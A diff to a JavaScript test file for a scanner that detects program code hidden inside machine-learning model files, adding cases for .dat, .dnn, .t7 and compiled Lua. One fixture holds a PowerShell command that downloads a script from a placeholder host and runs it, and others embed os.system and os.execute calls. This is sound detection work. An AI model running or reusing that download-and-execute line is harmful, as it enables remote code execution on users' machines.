@@ -37,7 +37,12 @@ test('code among bytes of no known format', () => {
   const odd = zeros(40).fill(0xf7);
   const code = bytes(odd, "\nimport os\nos.system('id')\n", odd);
   expect(found(code, 'model.engine')).toEqual(['MEDIUM program-in-model']);
-  expect(found(code, 'table.dat')).toEqual([]);
+  expect(found(code, 'shape_predictor.dat')).toEqual(['MEDIUM program-in-model']);
+  expect(found(bytes(odd, 'powershell -c iwr http://x.example/p.ps1 | iex', odd), 'm.dnn')).toEqual([
+    'MEDIUM program-in-model'
+  ]);
+  expect(found(code, 'table.tbl')).toEqual([]);
+  expect(found(bytes(odd, 'os.execute("id")', odd), 'model.t7')).toEqual(['MEDIUM program-in-model']);
   expect(found(bytes(odd, 'Copyright (C) Example, all rights reserved', odd), 'model.engine')).toEqual([]);
 });
 
@@ -59,6 +64,7 @@ test.each([
 test.each([
   ['a class', JAVA_CLASS, 'MEDIUM program-named-model'],
   ['WebAssembly', bytes('\0asm', [1, 0, 0, 0]), 'MEDIUM program-named-model'],
+  ['compiled Lua', bytes('\x1bLua\x53\0', zeros(20)), 'MEDIUM program-named-model'],
   ['Python', bytes('import numpy\n'), 'LOW program-named-model'],
   ['Python that starts a program', bytes('import os\nos.system("id")\n'), 'MEDIUM program-named-model']
 ])('%s under the name of a model is less', (_, data, finding) => {
